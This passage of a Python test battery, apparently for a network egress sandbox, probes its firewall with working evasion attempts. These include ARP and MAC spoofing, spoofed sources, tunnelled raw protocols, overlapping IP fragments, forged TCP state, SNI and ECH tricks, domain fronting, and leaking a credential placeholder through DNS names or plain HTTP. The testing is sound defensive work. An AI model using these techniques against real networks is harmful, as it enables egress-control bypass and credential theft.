    sh("ip", "addr", "del", addr + "/24", "dev", CFG["ifname"])
    return (blocked(t), f"tcp {t}")


@case("tricks", "a changed MAC address and gratuitous ARP claiming the sentry's address", "nothing reaches the trap; the bottle's own path still works")
def mac_and_arp_spoof():
    from scapy.all import conf, sendp
    from scapy.layers.l2 import ARP, Ether

    conf.verb = 0
    ifname = CFG["ifname"]
    old = open(f"/sys/class/net/{ifname}/address").read().strip()
    sh("ip", "link", "set", ifname, "address", "02:72:62:6d:00:99")
    sendp(Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, psrc=CFG["sentry"], hwsrc="02:72:62:6d:00:99", pdst=CFG["sentry"]), iface=ifname, count=2)
    t = tcp_try(CFG["trap"], 80)
    sh("ip", "link", "set", ifname, "address", old)
    sh("ip", "neigh", "flush", "dev", ifname)
    return (blocked(t), f"tcp {t}")


@case("tricks", "spoofed source: the sentry's enclave address", "nothing reaches the trap")
def spoofed_source_sentry():
    from scapy.layers.inet import IP, TCP, UDP

    return witness_tells([IP(src=CFG["sentry"], dst=CFG["trap"]) / TCP(dport=80, flags="S"),
          IP(src=CFG["sentry"], dst=CFG["trap"]) / UDP(dport=80) / b"spoof"])


@case("tricks", "spoofed source: an uplink address (the trap's own)", "nothing reaches the trap")
def spoofed_source_uplink():
    from scapy.layers.inet import IP, TCP, UDP

    return witness_tells([IP(src=CFG["trap"], dst=CFG["trap"]) / TCP(dport=80, flags="S"),
          IP(src=CFG["api"], dst=CFG["trap"]) / UDP(dport=80) / b"spoof"])


@case("tricks", "spoofed source: an address outside every subnet (203.0.113.9)", "nothing reaches the trap")
def spoofed_source_foreign():
    from scapy.layers.inet import IP, TCP

    return witness_tells(IP(src="203.0.113.9", dst=CFG["trap"]) / TCP(dport=80, flags="S"))


def raw_protocol(proto, payload):
    from scapy.layers.inet import IP

    return witness_tells(IP(dst=CFG["trap"], proto=proto) / payload)


@case("tricks", "GRE (IP protocol 47) to the trap", "nothing leaves")
def raw_gre():
    from scapy.layers.inet import IP, UDP
    from scapy.layers.l2 import GRE

    return raw_protocol(47, GRE() / IP(dst=CFG["trap"]) / UDP(dport=80))


@case("tricks", "SCTP INIT (IP protocol 132) to the trap", "nothing leaves")
def raw_sctp():
    from scapy.layers.sctp import SCTP, SCTPChunkInit

    return raw_protocol(132, SCTP(sport=5000, dport=80) / SCTPChunkInit())


@case("tricks", "IP-in-IP (protocol 4) to the trap", "nothing leaves")
def raw_ipip():
    from scapy.layers.inet import IP, TCP

    return raw_protocol(4, IP(src=CFG["bottle"], dst=CFG["trap"]) / TCP(dport=80, flags="S"))


@case("tricks", "IP-in-IP and GRE to the sentry itself, wrapping a packet for the trap", "not unwrapped; nothing leaves")
def encapsulated_to_sentry():
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import GRE

    inner = IP(src=CFG["bottle"], dst=CFG["trap"]) / TCP(dport=80, flags="S")
    return witness_tells([IP(dst=CFG["sentry"], proto=4) / inner, IP(dst=CFG["sentry"]) / GRE() / inner,
          IP(dst=CFG["sentry"], proto=41) / (b"\x60" + b"\x00" * 39)])


@case("tricks", "DCCP (33) and UDP-Lite (136) to the trap", "nothing leaves")
def raw_dccp_udplite():
    from scapy.layers.inet import IP

    return witness_tells([IP(dst=CFG["trap"], proto=33) / (b"\x9c\x40\x00\x50" + b"\x00" * 12),
          IP(dst=CFG["trap"], proto=136) / (b"\x9c\x40\x00\x50" + b"\x00" * 4)])


@case("tricks", "a TCP SYN to the trap cut into 8-byte IP fragments", "nothing leaves")
def ip_fragments():
    from scapy.layers.inet import IP, TCP, fragment

    return witness_tells(fragment(IP(dst=CFG["trap"]) / TCP(dport=80, flags="S") / (b"F" * 64), fragsize=8))


@case("tricks", "overlapping fragments that turn the allowed 443 into 80 on the port-restricted host", "nothing reaches port 80")
def overlapping_fragments():
    from scapy.layers.inet import IP, TCP

    ip_id = random.randint(1, 65535)
    good = bytes(TCP(sport=42000, dport=443, flags="S", seq=1) / (b"G" * 16))
    bad = bytes(TCP(sport=42000, dport=80, flags="S", seq=1) / (b"B" * 16))
    return witness_tells([IP(dst=CFG["ports"], id=ip_id, flags="MF", frag=0, proto=6) / good[:16],
          IP(dst=CFG["ports"], id=ip_id, flags="MF", frag=0, proto=6) / bad[:16],
          IP(dst=CFG["ports"], id=ip_id, flags=0, frag=2, proto=6) / good[16:]])


@case("tricks", "a tiny first fragment (8 bytes: ports only) with the flags in the second", "nothing reaches the trap")
def tiny_first_fragment():
    from scapy.layers.inet import IP, TCP

    ip_id = random.randint(1, 65535)
    seg = bytes(TCP(sport=42001, dport=80, flags="S", seq=1))
    return witness_tells([IP(dst=CFG["trap"], id=ip_id, flags="MF", frag=0, proto=6) / seg[:8],
          IP(dst=CFG["trap"], id=ip_id, flags=0, frag=1, proto=6) / seg[8:]])


@case("tricks", "TTL 1 and TTL 2 toward the trap; traceroute over UDP, TCP and ICMP", "no hop beyond the sentry; nothing leaves")
def ttl_tricks():
    from scapy.layers.inet import IP, TCP

    send([IP(dst=CFG["trap"], ttl=t) / TCP(dport=80, flags="S") for t in (1, 2, 3)])
    hops = []
    for mode in ([], ["-T", "-p", "80"], ["-I"]):
        r = sh("traceroute", "-n", "-w", "0.5", "-q", "1", "-m", "4", *mode, CFG["trap"])
        hops += [l.split()[1] for l in r.stdout.splitlines()[1:] if len(l.split()) > 1 and l.split()[1] != "*"]
    beyond = [h for h in hops if h not in (CFG["sentry"], CFG["sentry_link"])]
    return (not beyond, f"hops seen: {sorted(set(hops))}")


@case("tricks", "IPv6 to the sentry's link-local address (TCP 22, 80, 15443)", "nothing answers")
def ipv6_link_local_sentry():
    ll = CFG.get("sentry_ll")
    if not ll:
        return (True, "the enclave has no IPv6")
    res = [tcp_try(f"{ll}%{CFG['ifname']}", p, family=socket.AF_INET6) for p in (22, 80, 15443)]
    return (all(blocked(r) for r in res), f"{res}")


@case("tricks", "IPv6 to the all-routers multicast group, asking to be routed", "nothing leaves")
def ipv6_router_multicast():
    r = udp_try(f"ff02::2%{CFG['ifname']}", 80, timeout=0.5)
    return (blocked(r), f"udp {r}")


# Forged connection state


@case("state", "an unsolicited SYN-ACK to the trap", "nothing leaves")
def unsolicited_syn_ack():
    from scapy.layers.inet import IP, TCP

    return witness_tells(IP(dst=CFG["trap"]) / TCP(sport=43000, dport=80, flags="SA", seq=100, ack=200))


@case("state", "an ACK with data and no connection (conntrack's loose pickup)", "nothing leaves")
def ack_without_connection():
    from scapy.layers.inet import IP, TCP

    return witness_tells(IP(dst=CFG["trap"]) / TCP(sport=43001, dport=80, flags="PA", seq=100, ack=200) / b"GET / HTTP/1.0\r\n\r\n")


@case("state", "FIN, RST and no-flag segments to the trap", "nothing leaves")
def stray_flags():
    from scapy.layers.inet import IP, TCP

    return witness_tells([IP(dst=CFG["trap"]) / TCP(sport=43002, dport=80, flags=f) for f in ("F", "R", "", "FPU")])


@case("state", "an ICMP error quoting a made-up connection to the trap (fake RELATED)", "nothing leaves")
def fake_related_icmp():
    from scapy.layers.inet import ICMP, IP, TCP

    return witness_tells(IP(dst=CFG["trap"]) / ICMP(type=3, code=3) / IP(src=CFG["trap"], dst=CFG["bottle"]) / TCP(sport=80, dport=43003))


@case("state", "a UDP reply-shaped datagram from the trap's port to the trap (fake reply)", "nothing leaves")
def fake_udp_reply():
    from scapy.layers.inet import IP, UDP

    return witness_tells(IP(dst=CFG["trap"]) / UDP(sport=80, dport=80) / b"reply?")


# Names on the wire (name binding)

# A name case may send DNS for the allowed name, and bare TCP (handshake,
# reset) to the allowed address: never a byte of payload.
NAMES = ["DNS", "API:443/empty", "API:80/empty"]


@case("names", "a ClientHello for a refused name to the allowed name's address", "closed; no byte of it reaches the world",
      egress=NAMES)
def foreign_sni_on_allowed_address():
    dns_query(CFG["api_name"], timeout=2)  # learned again: the name check, not the address, must stop it
    r = tcp_send_parts(CFG["api"], 443, [client_hello(CFG["other_name"])])
    return (blocked(r), f"tcp {r}")


@case("names", "the same ClientHello split in two segments", "closed; nothing reaches the world", egress=NAMES)
def split_client_hello():
    hello = client_hello(CFG["other_name"])
    r = tcp_send_parts(CFG["api"], 443, [hello[:20], hello[20:]])
    return (blocked(r), f"tcp {r}")


@case("names", "the ClientHello one byte per segment (first 12)", "closed; nothing reaches the world", egress=NAMES)
def byte_by_byte_client_hello():
    hello = client_hello(CFG["other_name"])
    parts = [hello[i:i + 1] for i in range(12)] + [hello[12:]]
    r = tcp_send_parts(CFG["api"], 443, parts, pause=0.03)
    return (blocked(r), f"tcp {r}")


@case("names", "a ClientHello with no server name", "closed; nothing reaches the world", egress=NAMES)
def client_hello_without_name():
    r = tcp_send_parts(CFG["api"], 443, [client_hello("")])
    return (blocked(r), f"tcp {r}")


@case("names", "HTTP with a refused Host to the allowed name's address", "closed; nothing reaches the world", egress=NAMES)
def foreign_http_host():
    req = f"GET / HTTP/1.1\r\nHost: {CFG['other_name']}\r\n\r\n".encode()
    r = tcp_send_parts(CFG["api"], 80, [req])
    return (blocked(r), f"tcp {r}")


@case("names", "bytes that are neither TLS nor HTTP to the allowed address", "closed; nothing reaches the world", egress=NAMES)
def unknown_protocol_on_allowed_address():
    r = tcp_send_parts(CFG["api"], 443, [b"SSH-2.0-OpenSSH_9.2\r\n"])
    return (blocked(r), f"tcp {r}")


@case("names", "QUIC Initial for a refused name to the allowed address (UDP 443)", "dropped; nothing reaches the world", egress=NAMES)
def quic_foreign_sni():
    dns_query(CFG["api_name"], timeout=2)
    out = probe("send", f"{CFG['api']}:443", "--quic", CFG["other_name"], "--udp", "--timeout-ms", "800")
    return (not out.get("ok"), json.dumps(out)[:120])


@case("names", "QUIC Initial split across two packets, for a refused name", "dropped; nothing reaches the world", egress=NAMES)
def quic_split_foreign_sni():
    out = probe("send", f"{CFG['api']}:443", "--quic", CFG["other_name"], "--split", "40", "--udp", "--timeout-ms", "800")
    return (not out.get("ok"), json.dumps(out)[:120])


@case("names", "an Encrypted ClientHello (extension 0xfe0d) whose outer name is refused, to the allowed name's address",
      "closed; nothing reaches the world", egress=NAMES)
def ech_with_a_refused_outer_name():
    dns_query(CFG["api_name"], timeout=2)
    r = tcp_send_parts(CFG["api"], 443, [with_ech(client_hello(CFG["other_name"]))])
    return (blocked(r), f"tcp {r}")


@case("names", "an Encrypted ClientHello whose outer name is the allowed name (the inner name, encrypted, could be any)",
      "gets out by design (README: limits): the world gets the whole ClientHello",
      egress=["DNS", "API:443"], limit=True)
def ech_with_the_allowed_outer_name():
    hello = with_ech(client_hello(CFG["api_name"]))
    r = tcp_send_parts(CFG["api"], 443, [hello], timeout=2)
    got = world_got(r)
    return (got == len(hello), f"tcp {r}; the world got {got} of {len(hello)} bytes")


@case("names", "domain fronting: TLS with the allowed name (front.battery.test), a foreign Host inside the encrypted stream",
      "gets out by design (README: limits): the world serves the foreign Host (battery.rs checks its log)",
      egress=["DNS", "FRONT:443"], limit=True)
def fronting_inside_allowed_tls():
    a = dns_query(CFG["front_name"], timeout=2)
    r = https_get(CFG["front"], CFG["front_name"], path="/fronted", host=CFG["other_name"], verify=False)
    return (r.startswith("200 "), f"dns {shown(a)}; https {r}")


@case("names", "plain HTTP kept alive: the allowed Host first, then a request for a refused Host on the same connection",
      "gets out by design (README: limits): the world gets both requests", egress=["DNS", "API:8080"], limit=True)
def http_keep_alive_second_host():
    dns_query(CFG["api_name"], timeout=2)
    first, second = plain_request(CFG["api_name"]), plain_request(CFG["other_name"])
    r = tcp_send_parts(CFG["api"], 8080, [first, second], timeout=2)
    got = world_got(r)
    return (got == len(first) + len(second), f"tcp {r}; the world got {got} of {len(first) + len(second)} bytes")


# Credentials: the bottle holds a placeholder; the real key must reach the
# credential's host and nothing else (battery.rs also looks for it in every
# byte the sentry sent out and in every world's log).


@case("creds", "the placeholder in plain HTTP (port 80) to the credential's host",
      "closed: a placeholder in the clear is denied (it goes only to its hosts, over TLS); no byte reaches the world",
      egress=["DNS", "CRED:80/empty"])
def placeholder_in_plain_http():
    dns_query(CFG["cred_name"], timeout=2)
    r = tcp_send_parts(CFG["cred"], 80, [plain_request(CFG["cred_name"], placeholder())], timeout=2)
    time.sleep(1)  # the world's own close (after 0.5 s without bytes) falls in this case
    return (placeholder() != "" and blocked(r), f"tcp {r}")


@case("creds", "plain HTTP kept alive to the credential's host: a request without the placeholder, then one with it",
      "gets out by design (README: limits): the second request, placeholder and all (worthless away from the sentry); "
      "never the real key", egress=["DNS", "CRED:80"], limit=True)
def placeholder_in_a_kept_alive_request():
    first = plain_request(CFG["cred_name"])
    second = plain_request(CFG["cred_name"], placeholder())
    r = tcp_send_parts(CFG["cred"], 80, [first, second], timeout=2)
    got = world_got(r)
    return (placeholder() != "" and got == len(first) + len(second),
            f"tcp {r}; the world got {got} of {len(first) + len(second)} bytes (as sent: nothing swapped in)")


@case("creds", "the placeholder over HTTPS to another allowed host (front.battery.test, not the credential's)",
      "not intercepted: the world gets the placeholder, not the real key", egress=["DNS", "FRONT:443"])
def placeholder_to_another_allowed_host():
    dns_query(CFG["front_name"], timeout=2)
    r = https_get(CFG["front"], CFG["front_name"], bearer=placeholder(), verify=False)
    return (placeholder() != "" and r == f"200 auth: Bearer {placeholder()}", f"https {r}")


@case("creds", "the placeholder over HTTPS to the credential host's address, under another allowed name",
      "passed on untouched (only the credential's name is intercepted): the world gets the placeholder",
      egress=["DNS", "CRED:443"])
def placeholder_to_the_credential_address_under_another_name():
    dns_query(CFG["cred_name"], timeout=2)
    dns_query(CFG["front_name"], timeout=2)
    r = https_get(CFG["cred"], CFG["front_name"], bearer=placeholder(), verify=False)
    return (placeholder() != "" and r == f"200 auth: Bearer {placeholder()}", f"https {r}")


@case("creds", "the placeholder in DNS query names (under the zone and under the credential's host)",
      "REFUSED; nothing upstream")
def placeholder_in_dns_names():
    answers = {shown(dns_query(f"{placeholder()}.{under}")) for under in (CFG["zone"], CFG["cred_name"])}
    return (placeholder() != "" and answers == {"Refused"}, ",".join(sorted(answers)))


@case("creds", "a forged ClientHello for the credential's host, then garbage, straight to the proxy's port 15443",
      "no connection; the credential keeps working", egress=["DNS", "CRED:443"])
def forged_hello_to_the_proxy_port():
    hello = tcp_send_parts(CFG["sentry"], 15443, [client_hello(CFG["cred_name"]), os.urandom(4000)])
    junk = tcp_send_parts(CFG["sentry"], 15443, [os.urandom(600)])
    dns_query(CFG["cred_name"], timeout=2)
    after = https_get(CFG["cred"], CFG["cred_name"], bearer=placeholder())
    ok = blocked(hello) and blocked(junk) and after == f"200 auth: Bearer {placeholder()}"
    return (ok, f"hello {hello}; garbage {junk}; then https {after}")


@case("creds", "garbage through the redirect to the proxy: random bytes, and a ClientHello for the credential's host followed by garbage records",
      "the random bytes closed; the proxy ends the other (after its own handshake); the credential keeps working",
      egress=["DNS", "CRED:443"])
def garbage_through_the_credential_redirect():
    dns_query(CFG["cred_name"], timeout=2)
    junk = tcp_send_parts(CFG["cred"], 443, [os.urandom(600)])
    records = b"".join(b"\x17\x03\x03" + struct.pack("!H", 300) + os.urandom(300) for _ in range(4))
    hello = tcp_send_parts(CFG["cred"], 443, [client_hello(CFG["cred_name"]), records], timeout=2)
    after = https_get(CFG["cred"], CFG["cred_name"], bearer=placeholder())
    if hello.startswith("answered b'\\x16"):
        hello = "the proxy's own TLS handshake, then the end"
    ok = blocked(junk) and after == f"200 auth: Bearer {placeholder()}"
    return (ok, f"garbage {junk}; hello then garbage: {hello}; then https {after}")


@case("creds", "the placeholder to the credential's host, asking for its echo gzip-compressed (Accept-Encoding: gzip)",
      "the echo holds the placeholder, never the real key (redaction cannot read compressed bytes)",
      egress=["DNS", "CRED:443"])
def compressed_echo_of_the_credential():
    dns_query(CFG["cred_name"], timeout=2)
    r = https_get(CFG["cred"], CFG["cred_name"], path="/gzip", bearer=placeholder(), gzip_ok=True)
    return (placeholder() != "" and r == f"200 auth: Bearer {placeholder()}", f"https {r}")


@case("creds", "the placeholder inside the credential host's TLS, with the Host of another allowed name (front.battery.test)",
      "the real key goes to the credential host's own server only, whatever the Host says (battery.rs checks the worlds' logs)",
      egress=["DNS", "CRED:443"])
def placeholder_with_another_host_inside_the_credential_tls():
    dns_query(CFG["cred_name"], timeout=2)
    r = https_get(CFG["cred"], CFG["cred_name"], bearer=placeholder(), host=CFG["front_name"])
    return (r == f"200 auth: Bearer {placeholder()}", f"https {r}")


# ---------------------------------------------------------------- driver


def restore_network():
    """Puts the bottle's own network back as the launcher made it (a case
    that changed routes, addresses or its MAC may have left it changed)."""
    ifname = CFG["ifname"]
    for line in sh("ip", "route", "show", "default").stdout.splitlines():
        if f"via {CFG['sentry']} " not in line + " ":
            sh("ip", "route", "del", *line.split())
    if "default" not in sh("ip", "route", "show", "default").stdout:
        sh("ip", "route", "add", "default", "via", CFG["sentry"], "dev", ifname)


def healthy():
    """The bottle's allowed path still works: a case that broke it proves nothing."""
    return tcp_try(CFG["cidr"], 80, b"GET / HTTP/1.0\r\n\r\n", timeout=2) == "open"


def run(config):
    global CFG
    CFG = config
    cases = controls() + CASES
    only = set(CFG.get("only") or [])
    for cid, group, tries, expected, egress, fn, limit in cases:
        if only and cid not in only:
            continue
        t0 = now()
        try:
            result = fn()
            ok, observed = result[:2]
            if len(result) > 2:
                egress = result[2]
        except Exception as e:  # a broken case is a failed case, with its reason
            ok, observed = False, f"error: {type(e).__name__}: {e}"
        restore_network()
        if not healthy():
            ok, observed = False, observed + "; the bottle's allowed path no longer works, so this proves nothing"
        egress = list(egress) + [f"{CFG['cidr']}:80"]
        t1 = now()
        print(json.dumps({
            "id": cid, "group": group, "tries": tries, "expected": expected,
            "observed": observed, "ok": bool(ok), "limit": limit, "t0": t0, "t1": t1,
            "egress": [e.replace("API", CFG["api"]).replace("CRED", CFG["cred"]).replace("FRONT", CFG["front"])
                       .replace("DNS", f"{CFG['resolver']}:53") for e in egress],
        }), flush=True)
        time.sleep(GAP)
    print(json.dumps({"done": True}), flush=True)


def stream(ip, port, seconds, every=0.01):
    """Lifecycle cases: a UDP datagram to ip:port every `every` seconds and
    a TCP connection every 100 ms, for `seconds`; prints what answered and
    when."""
    end = now() + seconds
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    sent = replies = tcp_open = 0
    last = None
    next_tcp = now()
    while now() < end:
        try:
            s.sendto(b"rbm battery stream %d" % sent, (ip, port))
            sent += 1
        except OSError:
            pass
        try:
            while s.recv(4096):
                replies += 1
                last = now()
        except OSError:
            pass
        if now() >= next_tcp:
            next_tcp = now() + 0.1
            if tcp_try(ip, port, timeout=0.05) == "open":
                tcp_open += 1
                last = now()
        time.sleep(every)
    print(json.dumps({"sent": sent, "udp_replies": replies, "tcp_open": tcp_open, "last_reply": last}), flush=True)


PCAP = "/tmp/uplink.pcap"


def witness(uplink_net, trap, reroute):
    """In the sentry's network namespace: route `reroute` to the trap, then
    print every packet leaving the uplink interface (and keep them whole in
    PCAP)."""
    prefix = uplink_net.rsplit(".", 1)[0] + "."
    out = sh("ip", "-o", "-4", "addr", "show").stdout
    ifname = addr = None
    for line in out.splitlines():
        f = line.split()
        if f[3].startswith(prefix):
            ifname, addr = f[1], f[3].split("/")[0]
    if not ifname:
        sys.exit(f"witness: no interface in {uplink_net}:\n{out}")
    for net in reroute:
        r = sh("ip", "route", "replace", net, "via", trap, "dev", ifname)
        if r.returncode:
            sys.exit(f"witness: cannot route {net} to the trap: {r.stderr}")
    enclave_ll = None
    for line in sh("ip", "-o", "-6", "addr", "show", "scope", "link").stdout.splitlines():
        f = line.split()
        if f[1] != ifname and f[1] != "lo":
            enclave_ll = f[3].split("/")[0]
    # Every byte as well, for battery.rs to look for the real credential in.
    subprocess.Popen(["tcpdump", "-i", ifname, "-Q", "out", "-n", "-U", "-s", "0", "-Z", "root", "-w", PCAP, "not arp"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print(json.dumps({"ready": True, "ifname": ifname, "addr": addr, "enclave_ll": enclave_ll}), flush=True)
    os.execvp("tcpdump", ["tcpdump", "-i", ifname, "-Q", "out", "-n", "-q", "-tt", "-l", "-U", "not arp"])


def main():
    if len(sys.argv) >= 3 and sys.argv[1] == "run":
        run(json.loads(sys.argv[2]))
    elif len(sys.argv) >= 4 and sys.argv[1] == "witness":
        witness(sys.argv[2], sys.argv[3], sys.argv[4:])
    elif len(sys.argv) in (5, 6) and sys.argv[1] == "stream":
        stream(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), *(float(a) for a in sys.argv[5:]))
    elif len(sys.argv) >= 4 and sys.argv[1] == "count":
        data = open(sys.argv[2], "rb").read()
        print(json.dumps({"bytes": len(data), "count": [data.count(t.encode()) for t in sys.argv[3:]]}))
    elif len(sys.argv) == 2 and sys.argv[1] == "list":
        for cid, group, tries, expected, _, _, _ in CASES:
            print(f"{group}\t{cid}\t{tries}")
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
